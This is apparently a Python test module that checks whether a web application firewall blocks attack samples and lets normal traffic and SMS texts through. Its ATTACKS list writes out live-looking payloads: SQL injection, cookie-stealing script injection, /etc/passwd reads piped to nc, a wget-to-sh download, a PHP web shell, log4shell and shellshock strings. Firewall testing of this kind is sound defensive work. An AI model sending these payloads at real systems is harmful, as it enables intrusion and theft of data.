"""The web application firewall: attack samples are blocked, and our own traffic is not."""

import http.client
import time
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from http import HTTPStatus
from urllib.parse import quote_plus

from verify import clients, sms
from verify.clients import Sample, posted
from verify.public import Answer, Public
from verify.report import Row
from verify.running import Target
from verify.transaction import message

PACE = 0.2
"""Seconds between samples: well below the rate limits, whose answer would be mistaken for the firewall's."""
LATE = 5
"""How often an application may be: the bursts of the check before this one keep a busy machine at work for a while."""
MEBIBYTE = 1 << 20


def _query(name: str, poison: str) -> Sample:
    return Sample(name, query=f"?q={quote_plus(poison)}")


def _header(name: str, header: str, poison: str) -> Sample:
    return Sample(name, headers={header: poison})


ATTACKS = (
    _query("SQL injection: always true", "1' OR '1'='1' -- "),
    _query("SQL injection: union", "1 UNION ALL SELECT username, password FROM users--"),
    _query("SQL injection: stacked", "1; DROP TABLE users; --"),
    posted("SQL injection in JSON", note="1' UNION SELECT NULL, table_name FROM information_schema.tables -- "),
    _query("script injection: tag", "<script>alert(document.cookie)</script>"),
    _query("script injection: event", "<img src=x onerror=alert(1)>"),
    posted("script injection in JSON", note="<script>fetch('//x.invalid/'+document.cookie)</script>"),
    _query("path traversal in a parameter", "../../../../etc/passwd"),
    Sample(
        "path traversal in the path", path="/api/%2e%2e/%2e%2e/%2e%2e/etc/passwd", expected=frozenset({400, 403, 404})
    ),
    _query("file inclusion", "php://filter/convert.base64-encode/resource=index.php"),
    _query("command injection", "x; cat /etc/passwd | nc x.invalid 99"),
    _query("command substitution", "$(wget http://x.invalid/a -O- | sh)"),
    _query("PHP injection", "<?php system($_GET['c']); ?>"),
    _header("log4shell in a header", "X-Api-Version", "${jndi:ldap://x.invalid/a}"),
    _query("log4shell in a parameter", "${jndi:ldap://x.invalid/a}"),
    _header("shellshock", "Referer", "() { :; }; /bin/bash -c id"),
    _header("scanner: sqlmap", "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
    _header("scanner: Nikto", "User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
    Sample("method TRACE", method="TRACE", expected=frozenset({403, 405})),
    Sample("method CONNECT", method="CONNECT", expected=frozenset({400, 403, 405})),
    Sample("an unknown method", method="PROPFIND", expected=frozenset({403, 405})),
    Sample(
        "a body above the limit", method="POST", headers={"Content-Type": "application/json"},
        body=b'{"text": "' + b"x" * MEBIBYTE + b'"}', expected=frozenset({413}),
    ),
    Sample("a header above the limit", headers={"X-Long": "x" * 40_000}, expected=frozenset({400, 431})),
    Sample(
        "a body of two lengths", method="POST", body=b"0\r\n\r\n",
        headers={"Content-Length": "5", "Transfer-Encoding": "chunked"}, expected=frozenset({400, 403}),
    ),
)  # fmt: skip

TEXTS = (
    "Appelle maman à 18h, n'oublie pas l'anniversaire !",
    "What's 2 + 2 = ? (I'd say 4) 100% sure & \"quoted\"",
    "C'est à l'école; où est-ce ? \N{SMILING FACE WITH OPEN MOUTH}",
)


def firewall(target: Target) -> Iterator[Row]:
    """Each attack carries a valid token, so that nothing but the firewall can refuse it."""
    client = clients.of(target)
    if client is None:
        yield clients.unknown(target)
        return
    public = Public.of(target)
    user = clients.token(target, client, clients.ALICE)
    for sample in (*client.normal, *ATTACKS):
        path = (sample.path or client.page) + sample.query
        yield _try(public, sample, path, user, "passes" if sample in client.normal else "is blocked")
        time.sleep(PACE)
    for text in TEXTS if sms.has_users(target) else ():
        answer = _judged(partial(sms.send, target, public, message(clients.ALICE, text)))
        yield Row(f"SMS: {text[:30]}", "passes", answer.status == 200, str(answer.status))
        time.sleep(PACE)


def _try(public: Public, sample: Sample, path: str, user: Mapping[str, str], claim: str) -> Row:
    try:
        answer = _judged(lambda: public.ask(sample.method, path, headers={**user, **sample.headers}, body=sample.body))
    except (ConnectionError, http.client.HTTPException) as error:
        # The gateway may answer and hang up before it has read a body that it will not take.
        return Row(sample.name, claim, claim == "is blocked", f"hung up: {type(error).__name__}")
    return Row(sample.name, claim, answer.status in sample.expected, str(answer.status))


def _judged(ask: Callable[[], Answer]) -> Answer:
    """The answer to a request; 503 is no word of the firewall's but an application's, that a callee is late."""
    for _ in range(LATE):
        if (answer := ask()).status != HTTPStatus.SERVICE_UNAVAILABLE:
            break
        time.sleep(1)
    return answer
